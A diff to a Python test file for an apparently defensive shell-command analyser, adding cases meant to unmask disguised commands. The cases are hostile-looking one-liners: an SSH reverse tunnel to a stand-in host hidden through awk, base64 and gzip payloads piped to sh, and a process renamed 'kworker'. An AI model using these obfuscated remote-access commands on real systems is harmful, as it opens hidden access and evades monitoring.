@@ -65,6 +65,11 @@ def test_parameter_operators_not_read_stay_unknown(op: str) -> None:
     "ruby -e \"Process.wait(Process.spawn('bash','-c','ssh -R 9000:localhost:22 u@203.0.113.7'))\"",
     "perl -we 'system(\"ssh -R 9000:localhost:22 u@203.0.113.7\")'",
     "node -e \"require('child_process').execSync('ssh -R 9000:localhost:22 u@203.0.113.7')\"",
+    "awk 'BEGIN{exit system(\"ssh -R 9000:localhost:22 u@203.0.113.7\")}' /dev/null",
+    "awk -F: 'BEGIN{system(\"echo c3NoIC1SIDkwMDA6bG9jYWxob3N0OjIyIHVAMjAzLjAuMTEzLjc= | base64 -d | sh\")}'",
+    "printf '%s' 'y=___ssh; ${y:3} -R 9000:localhost:22 u@203.0.113.7' | xargs -0 bash -c",
+    "bash -c 'exec -a \"$0\" \"$@\"' kworker bash -c 'ssh -R 9000:localhost:22 u@203.0.113.7'",
+    "echo H4sIAAAAAAACAysuzlDQDVKwNDAwsMrJT07MycgvLrEyMlIodTAyMNYz0DM0NNYzBwBaiy7DJgAAAA== | base64 -d | gunzip | sh",
 ])
 def test_disguised_ssh_resolves_to_the_forward(text: str) -> None:
     assert ("ssh", "-R", "9000:localhost:22", "u@203.0.113.7") in [("ssh",) + a[1:] for a in _execs(text)
@@ -122,6 +127,8 @@ def test_cat_of_several_files_is_no_copy() -> None:
 def test_inline_code_without_a_literal_process_call_runs_nothing() -> None:
     assert _names("perl -e 'print join(\",\", @ARGV)' a b") == ["perl"]
     assert _names("ruby -e 'system(cmd)'") == ["ruby"]
+    assert _names("awk -F: '{system(\"nc \" $1)}' hosts") == ["awk"]  # not a literal command
+    assert _names("awk '{print \"system(x)\"}' f") == ["awk"]
 
 
 def test_printed_text_stays_data() -> None:
